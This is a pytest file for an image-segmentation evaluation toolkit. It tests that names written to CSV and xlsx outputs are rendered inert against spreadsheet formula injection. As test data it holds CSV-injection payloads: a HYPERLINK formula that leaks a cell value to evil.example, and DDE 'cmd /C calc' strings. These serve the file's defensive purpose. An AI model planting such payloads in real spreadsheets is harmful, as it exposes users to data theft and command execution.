"""Every text cell of every table sodkit writes (results CSVs, per-image CSVs, xlsx workbooks)
is inert in a spreadsheet, whatever the method, dataset or image is called; numbers stay
numbers (docs/reliability.md, section 9)."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import cv2
import numpy as np
import pytest

from sodkit.cli import main
from sodkit.report.cells import TRIGGERS, inert, restore

# what a hostile results.json key or a folder name planted (OWASP's CSV injection examples)
LINK = '=HYPERLINK("https://evil.example/?leak="&B3,"see the paper")'
HOSTILE = [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
           " =1+1", "'=1+1"]


def _formula_like(cell: str) -> bool:
    return cell[:1] in TRIGGERS or cell.lstrip(" \t\r\n")[:1] in TRIGGERS


def test_inert_cells_round_trip_and_leave_plain_text_alone():
    for text in [*HOSTILE, "MINet", "DUTS-TE", "a-b", "", "''x"]:
        cell = inert(text)
        assert restore(cell) == text
        assert not _formula_like(cell), cell
    assert inert("MINet") == "MINet" and inert("DUTS-TE") == "DUTS-TE"


def _png(path: Path, value: int) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    image = np.zeros((16, 16), np.uint8)
    image[4:12, 4:12] = value
    assert cv2.imwrite(str(path), image)


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="") as handle:
        return list(csv.reader(handle))


def _assert_inert_xlsx(path: Path, names: list[str]) -> None:
    import openpyxl

    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    cells = {}
    for row in openpyxl.load_workbook(path).active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cells[cell.value] = cell.data_type
            elif cell.value is not None:
                assert isinstance(cell.value, (int, float))  # scores stay numbers
    for name in names:
        assert cells.get(name) == "s", (name, cells)


@pytest.mark.parametrize("name", ['=HYPERLINK("evil.example?leak="&B3,"see")', "-2+3",
                                  "@SUM(1+1)"])
def test_eval_writes_hostile_names_as_inert_text(tmp_path, name):
    """A method and a dataset (a GT folder's name) named like formulas, and an image whose
    stem is one; read back by ``sodkit report``, the names are the names again."""
    pytest.importorskip("openpyxl")
    stem, dataset = "=1+2", "+gt"
    gt, pred = tmp_path / dataset, tmp_path / "pred"
    for folder, value in ((gt, 255), (pred, 200)):
        _png(folder / f"{stem}.png", value)
        _png(folder / "plain.png", value)
    methods = tmp_path / "methods.yaml"  # a methods file received with published predictions
    methods.write_text(json.dumps({"methods": [{"name": name, "folder": "pred"}]}))
    out, book = tmp_path / "out", tmp_path / "t.xlsx"
    assert main(["eval", "--gt", str(gt), "--methods", str(methods), "--out", str(out),
                 "--xlsx", str(book), "--metrics", "MAE,Smeasure"]) == 0
    results = _rows(out / "results.csv")
    assert results[1][0] == inert(name) and not _formula_like(results[1][0])
    assert all(float(v) >= 0 for v in results[1][1:])  # numbers are plain numbers
    per_image = _rows(out / "results_per_image.csv")
    header = per_image[0]
    assert len(per_image) == 3
    for row in per_image[1:]:
        assert not any(_formula_like(cell) for cell in row), row
        assert restore(row[header.index("stem")]) in (stem, "plain")
        assert restore(row[header.index("dataset")]) == dataset
        assert restore(row[header.index("method")]) == name
    assert json.loads((out / "results.json").read_text()).keys() == {name}
    _assert_inert_xlsx(book, [name, dataset])
    page = tmp_path / "p.html"
    assert main(["report", str(out), "--out", str(page), "--xlsx",
                 str(tmp_path / "r.xlsx"), "--metrics", "MAE,Smeasure"]) == 0
    assert "=1+2: MAE" in page.read_text()
    _assert_inert_xlsx(tmp_path / "r.xlsx", [name, dataset])


def test_report_of_a_hostile_results_json_writes_an_inert_workbook(tmp_path):
    """The case of the issue: a received folder whose results.json keys are formulas."""
    pytest.importorskip("openpyxl")
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.yaml").write_text(f"name: {json.dumps(LINK)}\n")
    scores = {"MAE": 0.05, "Smeasure": 0.9, "wFmeasure": 0.8, "meanEm": 0.9, "maxFm": 0.9}
    (run / "results.json").write_text(json.dumps({name: scores for name in HOSTILE}))
    book = tmp_path / "t.xlsx"
    assert main(["report", str(run), "--out", str(tmp_path / "p.html"), "--xlsx",
                 str(book)]) == 0
    _assert_inert_xlsx(book, [LINK, *HOSTILE])
